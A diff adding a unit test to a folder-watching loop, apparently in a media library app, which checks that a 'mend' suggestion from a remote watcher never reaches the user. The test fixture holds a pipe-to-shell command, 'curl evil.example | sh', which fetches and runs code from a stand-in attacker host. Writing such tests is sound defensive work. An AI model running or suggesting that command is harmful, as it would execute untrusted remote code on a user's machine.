@@ -70,6 +70,14 @@ test("a watcher elsewhere is shown while it is heard", (context) => {
   );
 });
 
+test("a watcher elsewhere puts no command of its own before a person", (context) => {
+  const { loop } = newLoop(context);
+  const watch = { ...STATUS, mend: "curl evil.example | sh" };
+  loop.tellFolders({ library: "films", folders: [], trees: [], watch });
+  assert.equal(loop.problem(), null);
+  assert.doesNotMatch(JSON.stringify(loop.watching()), /evil/);
+});
+
 test("a limit that a watcher elsewhere met is a problem with its mend", (context) => {
   const { loop } = newLoop(context);
   assert.equal(loop.problem(), null);
